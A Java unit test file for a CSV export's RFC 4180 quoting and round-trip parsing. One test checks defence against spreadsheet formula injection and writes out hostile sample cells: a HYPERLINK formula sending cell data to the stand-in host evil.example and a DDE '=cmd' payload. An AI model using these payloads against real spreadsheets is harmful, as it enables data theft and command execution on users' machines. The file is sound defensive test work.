package com.orderdeskmcp.front.audit;

import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * The export's CSV lines: the exact text of each kind of awkward value, and the round trip through a
 * strict RFC 4180 reader written here ({@link Rfc4180}), for hand-picked and random rows.
 */
class CsvTest {

    @Test
    void plainValuesAreWrittenAsTheyAreAndEveryLineEndsWithCrlf() {
        assertThat(Csv.line(List.of("42", "OrderMutated", "2026-11-28T10:00:00Z"))).isEqualTo("42,OrderMutated,2026-11-28T10:00:00Z\r\n");
        assertThat(Csv.line(List.of("only"))).isEqualTo("only\r\n");
    }

    @Test
    void valuesWithACommaAQuoteOrALineBreakAreQuotedWithTheirQuotesDoubled() {
        assertThat(Csv.line(List.of("a,b", "c"))).isEqualTo("\"a,b\",c\r\n");
        assertThat(Csv.line(List.of("say \"hi\""))).isEqualTo("\"say \"\"hi\"\"\"\r\n");
        assertThat(Csv.line(List.of("\""))).isEqualTo("\"\"\"\"\r\n");
        assertThat(Csv.line(List.of("\"\""))).isEqualTo("\"\"\"\"\"\"\r\n");
        assertThat(Csv.line(List.of("line 1\nline 2"))).isEqualTo("\"line 1\nline 2\"\r\n");
        assertThat(Csv.line(List.of("line 1\r\nline 2"))).isEqualTo("\"line 1\r\nline 2\"\r\n");
        assertThat(Csv.line(List.of("bare\rCR"))).isEqualTo("\"bare\rCR\"\r\n");
        assertThat(Csv.line(List.of("{\"email\":\"a@b.c\",\"n\":1}"))).isEqualTo("\"{\"\"email\"\":\"\"a@b.c\"\",\"\"n\"\":1}\"\r\n");
    }

    @Test
    void spacesEmptyAndNullValuesAndNonAscii() {
        // RFC 4180: spaces are part of a field, so they are kept and need no quotes.
        assertThat(Csv.line(List.of(" lead", "trail ", "  "))).isEqualTo(" lead,trail ,  \r\n");
        // An empty value is "", a missing one an empty field, so that a reader can tell them apart.
        assertThat(Csv.line(Arrays.asList("", null, "x", null))).isEqualTo("\"\",,x,\r\n");
        assertThat(Csv.line(Arrays.asList(null, ""))).isEqualTo(",\"\"\r\n");
        // Characters beyond ASCII pass through untouched (the endpoint encodes the text as UTF-8).
        assertThat(Csv.line(List.of("Zoë Müller", "東京", "😀"))).isEqualTo("Zoë Müller,東京,😀\r\n");
        assertThat(Csv.line(List.of("Müller, Zoë"))).isEqualTo("\"Müller, Zoë\"\r\n");
    }

    @Test
    void handPickedRowsReadBackAsTheyWereWritten() {
        List<List<String>> rows = List.of(
                List.of("global_index", "mutation_id", "reason"),
                List.of("1", "m-1", "OrderDesk said: \"email\", invalid"),
                List.of("2", "  padded  ", "two\nlines"),
                List.of("3", "", "windows\r\nline break"),
                List.of("4", "\"", ",\r\n\","),
                List.of("5", "Straße, 東京 😀", "end\n"),
                List.of("", "", ""),
                Arrays.asList(null, "", null));
        StringBuilder text = new StringBuilder();
        rows.forEach(row -> text.append(Csv.line(row)));
        assertThat(Rfc4180.parse(text.toString())).isEqualTo(rows);
        // null reads back as null, the empty string as the empty string.
        assertThat(Rfc4180.parse(Csv.line(Arrays.asList("a", null, "", "b")))).containsExactly(Arrays.asList("a", null, "", "b"));
    }

    @Test
    void randomRowsOfAwkwardCharactersReadBackAsTheyWereWritten() {
        String[] pieces = {",", "\"", "\r", "\n", "\r\n", " ", "a", "Z", "0", "=", "-", "é", "東", "😀", "\t", ";", "'"};
        Random random = new Random(4180);
        List<List<String>> rows = new ArrayList<>();
        for (int r = 0; r < 1000; r++) {
            List<String> row = new ArrayList<>();
            int fields = 1 + random.nextInt(6);
            for (int f = 0; f < fields; f++) {
                if (random.nextInt(10) == 0) {
                    row.add(null);
                    continue;
                }
                StringBuilder value = new StringBuilder();
                int length = random.nextInt(8);
                for (int c = 0; c < length; c++) {
                    value.append(pieces[random.nextInt(pieces.length)]);
                }
                row.add(value.toString());
            }
            if (row.size() == 1 && row.getFirst() == null) {
                row.add("x"); // a lone missing value is a blank line, which readers commonly skip
            }
            rows.add(row);
        }
        StringBuilder text = new StringBuilder();
        rows.forEach(row -> text.append(Csv.line(row)));
        assertThat(Rfc4180.parse(text.toString())).isEqualTo(rows.stream()
                .map(row -> row.stream().map(CsvTest::asASpreadsheetSafeCell).toList()).toList());
    }

    /** The documented rule: a cell a spreadsheet would take for a formula is read back with a leading apostrophe. */
    private static String asASpreadsheetSafeCell(String value) {
        return value != null && !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
    }

    /**
     * Spreadsheet formula injection: a cell that starts with =, +, - or @ (or a tab or CR) would be
     * evaluated by a spreadsheet that opens the export; it gets a leading apostrophe, which shows the
     * text instead. The rest of the cell is unchanged and quoted as any other.
     */
    @Test
    void cellsThatASpreadsheetWouldTakeForFormulasGetALeadingApostrophe() {
        List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
                "\t=1+1", "=cmd|' /C calc'!A0", "a=1", "");
        String line = Csv.line(formulas);
        assertThat(line).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",'+1+1,'-2+3,'@SUM(A1:A9),"
                + "'\t=1+1,'=cmd|' /C calc'!A0,a=1,\"\"\r\n");
        assertThat(Rfc4180.parse(line)).containsExactly(List.of("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+1+1",
                "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'=cmd|' /C calc'!A0", "a=1", ""));
    }

    @Test
    void theReaderRefusesWhatRfc4180DoesNotAllow() {
        // So that the round trips above would notice a field Csv forgot to quote.
        assertThatThrownBy(() -> Rfc4180.parse("a\"b\r\n")).hasMessageContaining("quote");
        assertThatThrownBy(() -> Rfc4180.parse("a\nb\r\n")).hasMessageContaining("LF");
        assertThatThrownBy(() -> Rfc4180.parse("\"a\"b\r\n")).hasMessageContaining("expected a comma or CRLF");
        assertThatThrownBy(() -> Rfc4180.parse("\"a\r\n")).hasMessageContaining("not closed");
        assertThatThrownBy(() -> Rfc4180.parse("a,b")).hasMessageContaining("CRLF");
        assertThatThrownBy(() -> Rfc4180.parse("a\rb\r\n")).hasMessageContaining("expected a comma or CRLF");
    }
}
